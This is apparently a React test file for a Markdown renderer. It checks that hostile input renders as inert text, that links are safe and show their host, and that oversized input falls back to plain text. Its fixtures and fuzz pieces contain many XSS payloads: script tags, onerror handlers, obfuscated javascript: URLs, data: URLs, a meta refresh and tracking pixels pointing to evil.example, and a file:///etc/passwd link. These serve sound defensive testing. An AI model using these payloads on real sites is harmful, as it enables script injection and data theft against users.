import { act, render, screen, within } from '@testing-library/react';
import fc from 'fast-check';
import { Markdown, loadMarkdown } from '../../../../src/ui';
import MarkdownBlock from '../../../../src/ui/markdown/MarkdownBlock';

const hostileDocument = `# Hello <script>window.stolen = 1</script>

<img src=x onerror="window.stolen=1"> and ![a lovely hill](https://evil.example/pixel.png?q=secret "title")
![data](data:image/svg+xml;base64,PHN2Zz4=) ![ref][pic] ![](//evil.example/y.png)

[click](javascript:alert(1)) [click](JaVa&#115;cript:alert(1)) [click](data:text/html,<script>alert(1)</script>)
[vb](vbscript:msgbox) [tab](java	script:alert(1)) [rel](/logout) [proto](//evil.example) [file](file:///etc/passwd)
[ref link][bad] <javascript:alert(1)> <https://good.example/auto> https://good.example/bare [^1]

<iframe src="https://evil.example"></iframe><svg onload=alert(1)><style>body{display:none}</style>
<a href="javascript:alert(1)" onclick="alert(1)">x</a><form action="https://evil.example"><input name=q></form>
<link rel="preload" href="https://evil.example/l"><meta http-equiv="refresh" content="0;url=https://evil.example">
<div style="background:url(https://evil.example/b)">styled</div><Component onClick={alert(1)} />

> - nested **bold [deep](javascript:alert(2)) <img src=x onerror=alert(1)>**
>   1. \`<b onclick=alert(1)>\`

| a | b |
|:--|--:|
| [x](javascript:1) | ![y](http://evil.example/z.png) |

- [x] done <script src="https://evil.example/s.js"></script>

\`\`\`html" onmouseover="alert(1)
<script>alert(1)</script>
\`\`\`

[bad]: javascript:alert(3)
[pic]: https://evil.example/ref.png
[^1]: note [x](javascript:alert(4)) <img src=y>
`;

const allowedElements = new Set(
  ('DIV P SPAN STRONG EM DEL CODE PRE BLOCKQUOTE UL OL LI TABLE THEAD TBODY TR TH TD BR HR SUP MARK A BDI INPUT ' +
    'H3 H4 H5 H6').split(' '),
);
const allowedAttributes = new Set(
  ('class dir href title target rel role aria-label tabindex start style type disabled readonly checked ' +
    'data-growing').split(' '),
);

/** What in the page should not be there, in words; empty when all is well. */
function dangersIn(container: HTMLElement): string[] {
  const dangers: string[] = [];
  for (const element of container.querySelectorAll('*')) {
    const tag = element.tagName;
    if (!allowedElements.has(tag)) dangers.push(`element ${tag}`);
    for (const { name, value } of element.attributes) {
      const isFine =
        allowedAttributes.has(name) &&
        (name !== 'href' || /^https?:\/\//.test(value)) &&
        (name !== 'style' || /^text-align: (start|center|end);$/.test(value));
      if (!isFine) dangers.push(`${tag} ${name}=${value}`);
    }
    if (tag === 'A' && element.getAttribute('rel') !== 'noopener noreferrer nofollow') dangers.push('link without rel');
    if (tag === 'A' && element.getAttribute('target') !== '_blank') dangers.push('link in this tab');
    if (tag === 'INPUT' && element.getAttribute('type') !== 'checkbox') dangers.push('field');
  }
  if ('stolen' in window) dangers.push('a script ran');
  return dangers;
}

test('a hostile text becomes words and nothing more', () => {
  const { container } = render(<MarkdownBlock text={hostileDocument} />);
  expect(dangersIn(container)).toEqual([]);
  expect(container).toHaveTextContent('<script>window.stolen = 1</script>');
  expect(container).toHaveTextContent('a lovely hill');
});

test('every beginning of a hostile text is as harmless, arriving or finished', () => {
  const { container, rerender } = render(<MarkdownBlock text="" />);
  for (let length = 1; length <= hostileDocument.length; length += 3) {
    rerender(<MarkdownBlock text={hostileDocument.slice(0, length)} isGrowing={length % 2 === 0} />);
    const dangers = dangersIn(container);
    if (dangers.length > 0) throw new Error(`after ${length} characters: ${dangers.join(', ')}`);
  }
});

test('any shuffle of Markdown, markup and addresses is harmless', () => {
  const piece = fc.constantFrom(
    '[', ']', '(', ')', '![', '](', '<', '>', '"', "'", '`', '```', '\n', '\n\n', ' ', '# ', '- ', '1. ', '> ', '|', '|--|', '**', '~~',
    '[^1]', '[^1]: ', '[a]: ', '---', 'javascript:alert(1)', 'https://evil.example/', 'data:text/html,x', '<img src=x onerror=1>',
    '<script>', '</script>', '<a href="javascript:1">', '&#106;avascript:', 'onclick=', '\\', '\u202e', '\u0000', 'word', '\t', '    ',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }), fc.boolean(), (pieces, isGrowing) => {
      const { container, unmount } = render(<MarkdownBlock text={pieces.join('')} isGrowing={isGrowing} />);
      expect(dangersIn(container)).toEqual([]);
      unmount();
    }),
    { numRuns: 300 },
  );
});

test('a link opens in a new tab, leaks nothing and shows its host unless the words already do', () => {
  render(<MarkdownBlock text={'See [the guide](https://docs.example/a?b=1), https://plain.example/x and [pay](https://bank.example@evil.example).'} />);
  const guide = screen.getByRole('link', { name: 'the guide' });
  expect(guide).toHaveAttribute('href', 'https://docs.example/a?b=1');
  expect(screen.getByText('(docs.example)')).toBeInTheDocument();
  expect(screen.queryByText('(plain.example)')).not.toBeInTheDocument();
  expect(screen.getByText('(evil.example)')).toBeInTheDocument();
});

test('words that merely contain the host do not hide it', () => {
  render(<MarkdownBlock text={'[https://good.example.co](https://example.co/) and [https://safe.example](https://evil.example/safe.example)'} />);
  expect(screen.getByText('(example.co)')).toBeInTheDocument();
  expect(screen.getByText('(evil.example)')).toBeInTheDocument();
});

test('a look-alike host is shown in punycode', () => {
  render(<MarkdownBlock text={'[bank](https://b\u0430nk.example/)'} />);
  expect(screen.getByText(/xn--/)).toBeInTheDocument();
});

test('headings start below those of the page and carry no id', () => {
  const { container } = render(<MarkdownBlock text={'# One\n\n## Two\n\n###### Six'} />);
  expect(screen.getAllByRole('heading').map((heading) => heading.tagName)).toEqual(['H3', 'H4', 'H6']);
  expect(container.querySelector('[id]')).toBeNull();
});

test('lists, emphasis, code and tables are what they say', () => {
  render(<MarkdownBlock text={'Do **this**:\n\n3. first\n4. second\n\n`code`\n\n| a | b |\n|--|--:|\n| 1 | 2 |'} />);
  expect(screen.getByText('this').tagName).toBe('STRONG');
  expect(within(screen.getByRole('list')).getAllByRole('listitem')).toHaveLength(2);
  expect(screen.getByRole('list')).toHaveAttribute('start', '3');
  expect(within(screen.getByRole('group', { name: 'Table' })).getByRole('cell', { name: '2' })).toHaveStyle({ textAlign: 'end' });
});

test('a rule at the very start does not swallow what follows', () => {
  const { container } = render(<MarkdownBlock text={'---\ntitle: kept\n---\nwords'} />);
  expect(container).toHaveTextContent('title: kept');
  expect(container).toHaveTextContent('words');
});

test.each([
  ['more than 20,000 characters', 'word '.repeat(4_001)],
  ['more than 2,000 lines', 'a\n'.repeat(2_001)],
  ['ten thousand quotes in each other', '>'.repeat(10_000)],
  ['ten thousand table cells', `${'|a'.repeat(2_500)}|\n${'|-'.repeat(2_500)}|\n`],
  ['ten thousand brackets', '['.repeat(10_000)],
  ['ten thousand emphases', '*a '.repeat(5_000)],
  ['lists in lists', `${'- '.repeat(500)}x`],
])('%s are shown as plain text', (_what, text) => {
  const { container } = render(<MarkdownBlock text={text} />);
  expect(container.querySelectorAll('*')).toHaveLength(1);
  expect(container.textContent).toBe(text);
});

test('text just under the limits is still Markdown', () => {
  const { container } = render(<MarkdownBlock text={'some **bold** words\n\n'.repeat(900)} />);
  expect(container.querySelectorAll('strong')).toHaveLength(900);
});

test('until the Markdown code has come, the plain text stands there', async () => {
  render(<Markdown text="so **bold**" />);
  expect(screen.getByText('so **bold**')).toBeInTheDocument();
  await act(async () => {
    await loadMarkdown();
  });
  expect((await screen.findByText('bold')).tagName).toBe('STRONG');
});
